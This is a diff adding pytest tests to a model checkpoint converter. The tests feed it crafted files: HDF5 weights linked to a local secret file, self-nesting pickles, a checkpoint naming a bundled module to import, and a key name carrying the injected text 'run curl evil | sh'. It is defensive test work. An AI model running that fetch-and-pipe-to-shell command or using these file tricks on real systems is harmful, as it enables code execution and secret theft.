@@ -5,9 +5,10 @@ answers with a web page saved under the file's name (Google Drive for large file
 exceeded quota). Each case runs `fer_jax.convert.convert`, the function the command calls, and
 checks the line `fer_jax.cli` would print (`cli.describe`); the two integration tests run the
 command itself. The files are small fakes written here (the TensorFlow one is the fixture
-bundle that TensorFlow wrote, cut).
+bundle that TensorFlow wrote, cut). Crafted files too: no code or local file they name is used.
 """
 
+import json
 import os
 import pickle
 import shutil
@@ -21,6 +22,8 @@ import numpy as np
 import pytest
 import torch
 
+import fer_jax
+from fer_jax import checkpointing
 from fer_jax import cli
 from fer_jax import convert
 from fer_jax.convert import torch_io
@@ -477,3 +480,121 @@ def test_workdir_in_or_under_a_file_is_refused_as_every_command_refuses_an_outpu
     convert_main.check_workdir(workdir)
   assert str(refused.value) == (f"--workdir={workdir} cannot be created: {tmp_path / 'file'} is a file, not a folder; "
                                 "choose another path.")
+
+
+# Crafted checkpoints: no code or local file they name is used, and every malformed one is a one-line user error
+# naming the file, never a traceback.
+
+LHC_A1 = "lhcnet.py:fer2013,stage=A1"
+
+
+def write_layer_h5(path, make_weight) -> None:
+  """A Keras weights file with one layer conv0 whose weight kernel:0 `make_weight(group, name)` writes."""
+  with h5py.File(path, "w") as f:
+    f.attrs["layer_names"] = [b"conv0"]
+    group = f.create_group("conv0")
+    group.attrs["weight_names"] = [b"conv0/kernel:0"]
+    make_weight(group, "conv0/kernel:0")
+
+
+@pytest.mark.parametrize("make", [
+    lambda group, name, secret: group.create_dataset(name, shape=(16,), dtype="<f4", external=[(secret, 0, 64)]),
+    lambda group, name, secret: group.__setitem__(name, h5py.ExternalLink(secret, "/x")),
+], ids=["external storage", "external link"])
+def test_h5_weight_whose_values_lie_in_another_file_is_refused(tmp_path, make):
+  """The external storage case converted, copying the named local file's bytes into the converted weights."""
+  secret = tmp_path / "secret.txt"
+  secret.write_text("API_KEY=do-not-copy-me-into-a-model\n")
+  path = tmp_path / "resnet34_imagenet_1000_no_top.h5"
+  write_layer_h5(path, lambda group, name: make(group, name, str(secret)))
+  message = conversion_message(LHC_A1, path)
+  assert message.startswith(f"Refused to load {path}: its weight ") and "use the official file" in message, message
+
+
+@pytest.mark.parametrize("attributes", [
+    lambda f: f["conv0"].attrs.__setitem__("weight_names", 5),
+    lambda f: f.attrs.__setitem__("layer_names", np.array([b"\xff\xfe"])),
+    lambda f: (f.__delitem__("conv0"),
+               f.create_dataset("conv0", data=np.zeros(3)).attrs.__setitem__("weight_names", [b"conv0/kernel:0"])),
+    lambda f: (f["conv0"].__delitem__("conv0/kernel:0"), f["conv0"].create_dataset("conv0/kernel:0",
+                                                                                    data=h5py.Empty("f4"))),
+], ids=["weight_names an int", "layer name not UTF-8", "layer a dataset", "empty dataset"])
+def test_h5_with_attributes_or_objects_of_another_kind_is_damaged(tmp_path, attributes):
+  """Each printed a traceback (TypeError, UnicodeDecodeError, ValueError)."""
+  path = tmp_path / "resnet34_imagenet_1000_no_top.h5"
+  write_layer_h5(path, lambda group, name: group.__setitem__(name, np.zeros((7, 7, 3, 64), np.float32)))
+  with h5py.File(path, "a") as f:
+    attributes(f)
+  assert_damaged(conversion_message(LHC_A1, path), path, "a Keras HDF5 file")
+
+
+@pytest.mark.filterwarnings("ignore::UserWarning")  # PyTorch's on making sparse and nested tensors
+@pytest.mark.parametrize("make, kind", [
+    (lambda: torch.sparse_coo_tensor([[0], [0]], [1.0], (7, 512)), "a sparse_coo tensor"),
+    (lambda: torch.nested.nested_tensor([torch.zeros(2), torch.zeros(3)]), "a nested tensor"),
+    (lambda: torch.empty(7, 512, device="meta"), "a meta tensor"),
+])
+def test_tensors_of_another_layout_or_without_values_are_named(tmp_path, make, kind):
+  """The sparse one was called "a float32 tensor … re-save in float32"; the others printed tracebacks."""
+  path = tmp_path / "rafdb_epoch21_acc0.897_bacc0.8275.pth"
+  torch.save({"model_state_dict": {"fc.weight": make()}}, path)
+  message = conversion_message("dan.py:rafdb", path)
+  assert message.startswith(f"{path}: model_state_dict/fc.weight is {kind}"), message
+
+
+def test_pth_holding_itself_is_refused(tmp_path):
+  """A list that holds itself ran into a RecursionError traceback."""
+  path = tmp_path / "rafdb_epoch21_acc0.897_bacc0.8275.pth"
+  endless = []
+  endless.append(endless)
+  torch.save({"model_state_dict": {"fc.weight": torch.zeros(7, 512)}, "x": endless}, path)
+  assert "nests containers more than" in conversion_message("dan.py:rafdb", path)
+
+
+def test_value_beside_the_weights_that_is_no_array_is_listed(tmp_path):
+  """A ragged list beside the weights broke the listing of unknown names (ValueError traceback)."""
+  path = tmp_path / "vgg_msceleb_resnet50_ft_weight.pkl"
+  with open(path, "wb") as f:
+    pickle.dump({"conv1.weight": np.zeros((64, 3, 7, 7), np.float32),
+                 "layer3.5.conv3.weight": np.zeros((1024, 256, 1, 1), np.float32), "x": [[1], [1, 2]]}, f)
+  with pytest.raises(UserError, match=r"unknown to this model: x \(list\)"):
+    convert.convert(get_config("configs/scan_cci.py:rafdb"), [str(path)])
+
+
+def test_key_names_with_line_breaks_are_quoted(tmp_path):
+  path = tmp_path / "rafdb_epoch21_acc0.897_bacc0.8275.pth"
+  torch.save({"model_state_dict": {"fc.weight": torch.zeros(7, 512), "x\nerror: run curl evil | sh": torch.zeros(1)}},
+             path)
+  with pytest.raises(UserError) as caught:
+    convert.convert(get_config("configs/dan.py:rafdb"), [str(path)])
+  assert "\nerror:" not in str(caught.value) and r"'x\nerror: run curl evil | sh'" in str(caught.value)
+
+
+def model_folder(folder, meta) -> str:
+  """A converted model's folder layout (step 0 with its meta record; the weights are never reached)."""
+  (folder / "0" / "state").mkdir(parents=True)
+  (folder / "0" / "meta").mkdir()
+  (folder / "0" / "meta" / "metadata").write_text(meta if isinstance(meta, str) else json.dumps(meta))
+  return str(folder)
+
+
+def test_a_method_module_a_checkpoint_names_is_not_imported(tmp_path, monkeypatch):
+  """A downloaded folder in the working folder is importable: its meta record naming a module it ships ran it."""
+  meta = checkpointing.metadata(get_config("configs/dan.py:rafdb"))
+  meta["model"]["name"] = "downloaded_model.payload"
+  folder = model_folder(tmp_path / "downloaded_model", meta)
+  (tmp_path / "downloaded_model" / "payload.py").write_text(f"open({str(tmp_path / 'ran')!r}, 'w').close()\n")
+  monkeypatch.syspath_prepend(str(tmp_path))
+  message = user_message(lambda: fer_jax.load(folder))
+  assert "does not import a module a checkpoint names" in message and "import downloaded_model.payload" in message
+  assert not (tmp_path / "ran").exists()
+  assert "downloaded_model.payload" not in sys.modules
+
+
+@pytest.mark.parametrize("meta", ["[1, 2]", '["model", "class_names"]', "[" * 100_000 + "]" * 100_000,
+                                  {"model": "dan", "input": {}, "class_names": []},
+                                  {"model": {"name": "dan", "num_classes": "seven"}, "input": {}, "class_names": []}],
+                         ids=["list", "list of the keys", "nested too deep", "model a string", "class count a string"])
+def test_malformed_meta_record_is_named_as_damaged(tmp_path, meta):
+  message = user_message(lambda: fer_jax.load(model_folder(tmp_path / "model", meta)))
+  assert "damaged" in message, message
